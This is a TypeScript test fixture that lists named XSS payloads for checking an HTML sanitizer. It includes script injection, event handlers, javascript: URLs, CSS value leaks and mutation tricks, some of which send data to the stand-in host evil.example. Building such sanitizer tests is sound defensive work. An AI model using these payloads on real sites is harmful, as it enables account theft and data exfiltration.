/**
 * Ways to smuggle script, foreign requests or a takeover of the page into HTML that operators may write. Each one that runs
 * sets `window.__pwned` or asks `evil.example`; some would send the reader away or cover the page. Source: LO-48.
 */
export const EVIL_HOST = 'evil.example'

const RUN = 'window.__pwned=1'
/** The same where a quote, a space or a `=` would end the attribute. */
const BARE = 'alert`1`'
const EVIL = `https://${EVIL_HOST}`
/** `javascript:window.__pwned=1` in character references. */
const inDecimal = (text: string) => Array.from(text, sign => `&#${sign.codePointAt(0)}`).join(';')
const inHex = (text: string) => Array.from(text, sign => `&#x${sign.codePointAt(0)?.toString(16)};`).join('')
const SCRIPT_URL = `javascript:${RUN}`
const IMG = `<img src=x onerror="${RUN}">`

type Vector = readonly [name: string, html: string]

const SCRIPTS: readonly Vector[] = [
  ['a script', `<script>${RUN}</script>`],
  ['a script in odd case', `<sCrIpT>${RUN}</ScRiPt>`],
  ['a script from elsewhere', `<script src=${EVIL}/a.js></script>`],
  ['a script without a scheme', `<script src=//${EVIL_HOST}/a.js></script>`],
  ['a script with a slash for a space', `<script/src="${EVIL}/a.js"></script>`],
  ['a script that never closes', `<script>${RUN}`],
  ['a script whose end has a space', `<script>${RUN}</script >`],
  ['a script inside a script', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['a doubled bracket', `<<script>${RUN}//<</script>`],
  ['a module', `<script type="module">${RUN}</script>`],
  ['a module from a data address', `<script type=module src="data:text/javascript,${RUN}"></script>`],
  ['speculation rules', `<script type="speculationrules">{"prefetch":[{"urls":["${EVIL}/"]}]}</script>`],
  ['an import map', `<script type="importmap">{"imports":{"a":"${EVIL}/a.js"}}</script>`],
  ['a null byte in the tag', `<scr\u0000ipt>${RUN}</scr\u0000ipt>`],
]

const HANDLERS: readonly Vector[] = [
  ['a picture that fails', IMG],
  ['a handler without quotes', `<img src=x onerror=${BARE}>`],
  ['a handler after a slash', `<img/src=x/onerror=${BARE}>`],
  ['a handler behind a quote', `<img src="x"onerror="${RUN}">`],
  ['a handler in odd case', `<img src=x OnErRoR="${RUN}">`],
  ['a handler on a new line', `<img src=x\nonerror\n=\n"${RUN}">`],
  ['a handler behind a form feed', `<img src=x\fonerror="${RUN}">`],
  ['a handler in backticks', `<img src=\`x\` onerror="${RUN}">`],
  ['a handler in references', `<img src=x onerror="${inDecimal(RUN)}">`],
  ['a handler broken out of a value', `<img alt="\`><img src=x onerror=${BARE}>">`],
  ['a malformed picture', `<img """><script>${RUN}</script>">`],
  ['an old name for a picture', `<image src=x onerror="${RUN}">`],
  ['the focus', `<p tabindex=0 autofocus onfocus="${RUN}">x</p>`],
  ['the focus of a link', `<a href=# autofocus onfocus="${RUN}">x</a>`],
  ['an open disclosure', `<details open ontoggle="${RUN}"><summary>x</summary></details>`],
  ['an animation', `<p style="animation-name:rise" onanimationstart="${RUN}">x</p>`],
  ['a transition', `<p style="transition:color 1s" ontransitionend="${RUN}">x</p>`],
  ['a pointer', `<div onpointerrawupdate="${RUN}" onmouseover="${RUN}">x</div>`],
  ['a film', `<video src=x onerror="${RUN}"></video>`],
  ['a film’s source', `<video><source onerror="${RUN}" src=x></video>`],
  ['a sound', `<audio src=x onerror="${RUN}" onloadstart="${RUN}">`],
  ['a body', `<body onload="${RUN}" onpageshow="${RUN}">x`],
  ['a marquee', `<marquee onstart="${RUN}">x</marquee>`],
  [
    'what scrolls into view',
    `<div oncontentvisibilityautostatechange="${RUN}" style="content-visibility:auto">x</div>`,
  ],
  ['a popover', `<button popovertarget=x>x</button><p popover id=x onbeforetoggle="${RUN}">y</p>`],
  ['a style that loads', `<style onload="${RUN}"></style>`],
  ['a link that loads', `<link rel=stylesheet href="data:text/css," onload="${RUN}">`],
  ['a field', `<input autofocus onfocus="${RUN}">`],
  ['a select', `<select autofocus onfocus="${RUN}"></select>`],
  ['an unfinished tag', `<img src=x onerror="${RUN}" `],
]

const ADDRESSES: readonly Vector[] = [
  ['a script address', `<a href="${SCRIPT_URL}">x</a>`],
  ['a script address in odd case', `<a href="JaVaScRiPt:${RUN}">x</a>`],
  ['a script address cut by a tab', `<a href="java\tscript:${RUN}">x</a>`],
  ['a script address cut by a new line', `<a href="java\nscript:${RUN}">x</a>`],
  ['a script address cut by references', `<a href="java&Tab;script&NewLine;&colon;${RUN}">x</a>`],
  ['a script address in decimal', `<a href="${inDecimal(SCRIPT_URL)}">x</a>`],
  ['a script address in hexadecimal', `<a href="${inHex(SCRIPT_URL)}">x</a>`],
  ['a script address padded with zeros', `<a href="&#0000106avascript:${RUN}">x</a>`],
  ['a script address behind control signs', `<a href="\u0001\u0019 ${SCRIPT_URL}">x</a>`],
  ['a script address with a null byte', `<a href="java\u0000script:${RUN}">x</a>`],
  ['a script address behind a wide space', `<a href="\u3000${SCRIPT_URL}">x</a>`],
  ['a script address with a comment', `<a href="javascript://%0a${RUN}">x</a>`],
  ['an old script address', `<a href="vbscript:msgbox(1)">x</a>`],
  ['a live script address', `<a href="livescript:${RUN}">x</a>`],
  ['a data page', `<a href="data:text/html,<script>${RUN}</script>">x</a>`],
  ['a data page in base64', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['a blob', `<a href="blob:${EVIL}/1">x</a>`],
  ['a file', '<a href="file:///etc/passwd">x</a>'],
  ['a link without a scheme', `<a href="//${EVIL_HOST}/">x</a>`],
  ['a link with backslashes', `<a href="\\\\${EVIL_HOST}">x</a>`],
  ['a link that reports', `<a href="/list" ping="${EVIL}/ping">x</a>`],
  ['a link of a drawing', `<svg><a xlink:href="${SCRIPT_URL}"><text y=9>x</text></a></svg>`],
  ['a link of a formula', `<math><mtext href="${SCRIPT_URL}">x</mtext></math>`],
  ['a map', `<map name=m><area href="${SCRIPT_URL}" shape=default></map><img usemap=#m src=x>`],
  ['pictures by width', `<img srcset="${SCRIPT_URL} 1x, data:text/html,x 2x">`],
  ['a script as a poster', `<video poster="${SCRIPT_URL}"></video>`],
  ['a script as a picture', `<img src="${SCRIPT_URL}">`],
  [
    'a drawing as a picture',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  ],
  ['old picture attributes', `<img dynsrc="${SCRIPT_URL}" lowsrc="${SCRIPT_URL}">`],
  [
    'a background',
    `<table background="${SCRIPT_URL}"><tr><td background="${EVIL}/t.png">x</td></tr></table>`,
  ],
  ['where a quotation comes from', `<blockquote cite="${SCRIPT_URL}">x</blockquote>`],
]

const FRAMES_AND_FORMS: readonly Vector[] = [
  ['a frame of a script', `<iframe src="${SCRIPT_URL}"></iframe>`],
  ['a frame with its page inside', `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`],
  [
    'a frame with its page in references',
    `<iframe srcdoc="&lt;img src=x onerror=&quot;parent.${RUN}&quot;&gt;"></iframe>`,
  ],
  ['a frame from elsewhere', `<iframe src="${EVIL}/"></iframe>`],
  ['a frame from a host that looks right', `<iframe src="https://www.youtube.com.${EVIL_HOST}/"></iframe>`],
  ['a frame with a name before the host', `<iframe src="https://www.youtube.com@${EVIL_HOST}/"></iframe>`],
  [
    'a frame that loads',
    `<iframe src="https://www.youtube.com/embed/a" onload="${RUN}" srcdoc="x"></iframe>`,
  ],
  ['a frame of data', `<iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe>`],
  ['a frame set', `<frameset onload="${RUN}"><frame src="${EVIL}/"></frameset>`],
  ['an object', `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`],
  ['an object from elsewhere', `<object data="${EVIL}/a.swf"><param name=src value="${EVIL}"></object>`],
  ['an embed', `<embed src="${SCRIPT_URL}">`],
  ['an applet', `<applet code="a.class" codebase="${EVIL}/">`],
  ['a portal', `<portal src="${EVIL}/">`],
  ['a fenced frame', `<fencedframe src="${EVIL}/"></fencedframe>`],
  ['a form', `<form action="${EVIL}/"><input name=password><button>ok</button></form>`],
  ['a button with an action', `<form><button formaction="${SCRIPT_URL}">x</button></form>`],
  ['a button that belongs to a form elsewhere', `<button form=search formaction="${EVIL}/">x</button>`],
  ['an invoker', '<button commandfor=shop command=--run>x</button>'],
  ['an old field', `<isindex type=image src=x onerror="${RUN}">`],
]

const PAGE: readonly Vector[] = [
  ['a redirect', `<meta http-equiv=refresh content="0;url=${EVIL}/">`],
  ['a redirect to a script', `<meta http-equiv="refresh" content="0;url=data:text/html,x">`],
  ['a policy', `<meta http-equiv="Content-Security-Policy" content="script-src *">`],
  ['a base', `<base href="${EVIL}/">`],
  ['a style sheet', `<link rel=stylesheet href="${EVIL}/a.css">`],
  ['a preload', `<link rel=preload as=script href="${EVIL}/a.js">`],
  ['a prefetch', `<link rel=dns-prefetch href="${EVIL}/"><link rel=prefetch href="${EVIL}/p">`],
  ['a manifest', `<link rel=manifest href="${EVIL}/m.json">`],
  ['an import of old', `<link rel=import href="${EVIL}/a.html">`],
  ['an import of styles', `<style>@import "${EVIL}/a.css";</style>`],
  ['styles that read fields', `<style>input[value^=a]{background:url(${EVIL}/a)}</style>`],
  ['a font', `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff)}*{font-family:x}</style>`],
  ['a style that loads a picture', `<p style="background:url(${EVIL}/b.png)">x</p>`],
  ['a style with an escaped name', `<p style="background:\\75 rl(${EVIL}/c.png)">x</p>`],
  ['a style that calculates', `<p style="width:expression(${RUN})">x</p>`],
  ['a style with a comment in it', `<p style="width:exp/**/ression(${RUN})">x</p>`],
  ['a style that binds', `<p style="-moz-binding:url(${EVIL}/x.xml#a);behavior:url(${EVIL}/x.htc)">x</p>`],
  ['a style through a variable', `<p style="--a:url(${EVIL}/v.png);background:var(--a)">x</p>`],
  ['a style that covers the page', '<div style="position:fixed;inset:0;z-index:99999">x</div>'],
  ['an id the shop uses', '<p id="shop" class="overlay" name="cookie">x</p>'],
  ['names that hide the document’s own', '<img name=cookie><form name=body><input name=firstChild></form>'],
]

const MUTATIONS: readonly Vector[] = [
  ['a drawing that loads', `<svg onload="${RUN}">`],
  ['a drawing with a script', `<svg><script>${RUN}</script></svg>`],
  ['a drawing with a script in references', `<svg><script>${inHex(RUN)}</script></svg>`],
  [
    'a drawing that animates a link',
    `<svg><a><animate attributeName=href values="${SCRIPT_URL}"/><text y=9>x</text></a></svg>`,
  ],
  [
    'a drawing that sets a handler',
    `<svg><set attributeName=onmouseover to="${RUN}"/><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  ],
  ['a drawing that uses another', `<svg><use href="data:image/svg+xml,<svg id=x onload=${BARE}/>#x"/></svg>`],
  [
    'HTML inside a drawing',
    `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  ],
  ['a drawing’s style', `<svg><style>${IMG.replace('<', '&lt;')}</style></svg>`],
  [
    'a title that ends a drawing',
    `<svg><title><style><img title="</style>${IMG.replaceAll('"', '&quot;')}"></title></svg>`,
  ],
  ['a paragraph that leaves a drawing', `<svg></p><style><a id="</style>${IMG.replaceAll('"', '')}">`],
  ['a formula with a style', `<math><mtext><table><mglyph><style><!--</style>${IMG}--></style>`],
  [
    'a formula that turns into HTML',
    `<math><mi><b><mglyph></b><style><!--</style><img title="-->${IMG.replaceAll('"', '&quot;')}">`,
  ],
  [
    'an annotation',
    `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  ],
  ['forms in formulas', `<form><math><mtext></form><form><mglyph><style></math>${IMG}`],
  ['text without scripts', `<noscript><p title="</noscript>${IMG.replaceAll('"', '')}"></noscript>`],
  ['a template', `<template><script>${RUN}</script>${IMG}</template>`],
  ['a shadow', `<div><template shadowrootmode=open>${IMG}</template></div>`],
  ['a text area', `<textarea><p title="</textarea>${IMG.replaceAll('"', '')}"></textarea>`],
  ['a title', `<title><p title="</title>${IMG.replaceAll('"', '')}"></title>`],
  ['plain text of old', `<xmp><p title="</xmp>${IMG.replaceAll('"', '')}"></xmp>`],
  ['a listing', `<listing>&lt;img src=x onerror=${BARE}&gt;</listing>`],
  ['text to the end', `<plaintext>${IMG}`],
  ['no frames', `<noframes><p title="</noframes>${IMG.replaceAll('"', '')}">`],
  ['no embeds', `<noembed><p title="</noembed>${IMG.replaceAll('"', '')}">`],
  [
    'text in a frame',
    `<iframe src="https://www.youtube.com/embed/a"><p title="</iframe>${IMG.replaceAll('"', '')}"></iframe>`,
  ],
  ['an option', `<select><option><style></option></select>${IMG}</style>`],
  ['a table that throws out', `<table><td><a href="#"><table>${IMG}</a></table>`],
  ['nested tables', `<table><tr><td><svg><desc><td><title><a title="</title>${IMG.replaceAll('"', '')}">`],
  ['a comment', `<!--<img src="-->${IMG}">-->`],
  ['a comment that ends early', `<!-->${IMG}-->`],
  ['a comment with an exclamation mark', `<!-- --!>${IMG}-->`],
  ['a conditional comment', `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`],
  ['raw text of XML', `<![CDATA[<script>]]>${RUN}<![CDATA[</script>]]>`],
  ['raw text in a drawing', `<svg><![CDATA[><img src=x onerror="${RUN}">]]></svg>`],
  ['an instruction', `<?xml-stylesheet href="${SCRIPT_URL}"?>${IMG}`],
  ['an entity declaration', `<!DOCTYPE x [<!ENTITY a "${IMG.replaceAll('"', '')}">]>&a;`],
  ['brackets in references', `&lt;script&gt;${RUN}&lt;/script&gt;${IMG}`],
  ['doubly escaped', `&amp;lt;img src=x onerror=${BARE}&amp;gt;${IMG}`],
  ['wide brackets', `＜script＞${RUN}＜/script＞${IMG}`],
  ['an overlong tag', `<p ${'a'.repeat(2000)} onclick="${RUN}"><x${'y'.repeat(2000)} onerror="${RUN}">x`],
  ['deep nesting', `${'<div>'.repeat(300)}${IMG}${'</div>'.repeat(300)}`],
  ['an element of one’s own', `<x-note onclick="${RUN}" is=x-y style="position:fixed">x</x-note>`],
  ['a slot', `<slot name=main onslotchange="${RUN}">x</slot>`],
  ['two attributes of one name', `<a href="/list" href="${SCRIPT_URL}">x</a>`],
  ['an attribute with a quote for a name', `<a "onclick="${RUN}" href=/list>x</a>`],
  ['direction signs', `<a href="\u202e${SCRIPT_URL}">x</a>`],
  ['a byte order mark', `<scr\ufeffipt>${RUN}</scr\ufeffipt>\ufeff${IMG}`],
  ['letters that look alike', `<ſcript>${RUN}</ſcript><img src=x oneRRor="${RUN}">`],
  ['half a surrogate', `<p title="\ud800"onclick="${RUN}">x</p>`],
]

/** Every vector has a name of its own. */
export const XSS_VECTORS: readonly Vector[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES,
  ...FRAMES_AND_FORMS,
  ...PAGE,
  ...MUTATIONS,
]
